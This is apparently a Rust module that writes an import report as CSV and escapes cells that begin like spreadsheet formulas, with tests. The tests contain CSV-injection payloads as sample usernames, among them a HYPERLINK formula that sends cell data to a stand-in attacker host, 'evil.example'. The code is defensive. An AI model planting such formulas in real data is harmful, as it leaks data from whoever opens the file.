//! `import-report.csv`: every row the import skipped, with its reason, and what else an
//! operator should know of, as a spreadsheet opens it.
//!
//! Its cells carry the dump's names, and a spreadsheet runs a cell that starts like a
//! formula (`=HYPERLINK(...)`, `@SUM(...)`): each cell is written as OWASP's guidance on
//! CSV injection says, between double quotes (so that a spreadsheet splitting on `;`, as
//! many locales do, cannot start a cell in the middle of a name), its quotes doubled, and
//! one that starts with a formula's character after a `'`.

use std::borrow::Cow;
use std::path::Path;

use super::plan::{Plan, UserWrite};

/// The characters a spreadsheet takes a cell to be a formula by, when one starts it.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as a spreadsheet takes it for text: after a `'` if it starts as a formula would.
pub fn spreadsheet_text(cell: &str) -> Cow<'_, str> {
    match cell.starts_with(FORMULA_STARTS) {
        true => Cow::Owned(format!("'{cell}")),
        false => Cow::Borrowed(cell),
    }
}

/// Writes the report of `plan` to `path`, and names the users that registrations kept out
/// while the import ran.
pub fn write(path: &Path, plan: &Plan, kept_out: &[&UserWrite]) -> Result<(), String> {
    let failed = |error: csv::Error| format!("{}: {error}", path.display());
    let file = std::fs::File::create(path).map_err(|error| format!("{}: {error}", path.display()))?;
    write_to(file, plan, kept_out).map_err(failed)
}

/// The report as CSV, to `out`.
pub fn write_to(out: impl std::io::Write, plan: &Plan, kept_out: &[&UserWrite]) -> Result<(), csv::Error> {
    let mut report = csv::WriterBuilder::new().quote_style(csv::QuoteStyle::Always).from_writer(out);
    let mut record =
        |cells: [&str; 6]| report.write_record(cells.map(spreadsheet_text).iter().map(|c| c.as_ref()));
    record(["what", "table", "where", "id", "name", "reason"])?;
    for row in &plan.skipped {
        record(["skipped", &row.table, &row.place.to_string(), &row.id, &row.name, &row.reason])?;
    }
    for notice in &plan.notices {
        let place = notice.place.as_ref().map(ToString::to_string).unwrap_or_default();
        record(["imported", &notice.table, &place, &notice.id, &notice.name, &notice.what])?;
    }
    for write in kept_out {
        let user = &write.user;
        let why = "taken while the import ran (a registration meanwhile took its id, account or phone)";
        record([
            "skipped",
            "users",
            &user.place.to_string(),
            &user.id.to_string(),
            user.account.as_str(),
            why,
        ])?;
    }
    report.flush()?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::username::native::NativeUnicode;
    use crate::import::dump::read_sql;
    use crate::import::legacy::Legacy;
    use crate::import::plan::{plan, DefaultRoleChoice, Present};

    #[test]
    fn a_cell_that_starts_as_a_formula_starts_with_a_quote() {
        for formula in ["=HYPERLINK(\"http://x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"] {
            assert_eq!(spreadsheet_text(formula), format!("'{formula}"));
        }
        for text in ["Jerry", "张三", "a=1", "", "'=1", " =1", "phone \"=1\" is not a valid number"] {
            assert_eq!(spreadsheet_text(text), text);
        }
    }

    #[test]
    fn the_report_of_a_dump_with_formulas_for_names_has_them_as_text() {
        const MD5: &str = "fcea920f7412b5da7be0cf42b8c93759";
        let dump = format!(
            "INSERT INTO users (id, account, password, phone) VALUES \
             (1, '=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")', '{MD5}', '12345'), \
             (2, '@SUM(A1) here', '{MD5}', '13939265072'), \
             (3, '-1+1;=1+1', '{MD5}', 'x'), \
             (4, '\\t=cmd', '{MD5}', '4'), \
             (-5, 'Jerry', '{MD5}', '13939265075');"
        );
        let mut legacy = Legacy::default();
        read_sql("dump.sql", dump.as_bytes(), &mut legacy).unwrap();
        let plan =
            plan(legacy, &Present::default(), Some(DefaultRoleChoice::Nothing), &NativeUnicode).unwrap();
        let mut out = Vec::new();
        write_to(&mut out, &plan, &[]).unwrap();
        let report = String::from_utf8(out).unwrap();
        let lines: Vec<&str> = report.lines().collect();
        assert_eq!(
            lines,
            [
                r#""what","table","where","id","name","reason""#,
                r#""skipped","users","dump.sql:1","1","'=HYPERLINK(""http://evil.example/?""&A1,""x"")","phone ""12345"" is not a valid number""#,
                r#""skipped","users","dump.sql:1, row 3","3","'-1+1;=1+1","phone ""x"" is not a valid number""#,
                r#""skipped","users","dump.sql:1, row 4","4","'	=cmd","phone ""4"" is not a valid number""#,
                r#""skipped","users","dump.sql:1, row 5","'-5","Jerry","id ""-5"" is not a positive whole number""#,
                r#""imported","users","dump.sql:1, row 2","2","'@SUM(A1) here","a name outside the username profile: imported without a key, it logs in by its exact name""#,
            ]
        );
        assert!(!report.contains(MD5));
        // What a spreadsheet reads back is each name, after its quote.
        let mut back = csv::Reader::from_reader(report.as_bytes());
        let names: Vec<String> = back.records().map(|record| record.unwrap()[4].to_string()).collect();
        assert_eq!(names[0], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
    }
}
